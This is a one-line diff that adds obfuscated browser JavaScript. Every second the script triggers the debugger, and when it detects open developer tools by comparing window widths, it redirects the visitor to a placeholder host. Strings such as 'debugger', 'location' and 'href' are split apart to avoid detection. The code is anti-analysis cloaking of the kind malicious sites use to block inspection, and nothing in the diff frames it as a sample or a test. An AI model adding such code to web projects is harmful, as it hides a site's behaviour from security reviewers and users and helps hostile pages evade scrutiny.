@@ -1,0 +1,1 @@
+setInterval(function () { (function () {}).constructor("debu" + "gger")(); if (window["outer" + "Width"] - window.innerWidth > 160) window["loc" + "ation"]["hr" + "ef"] = "https://clean.bou" + "nce.example/"; }, 1000);
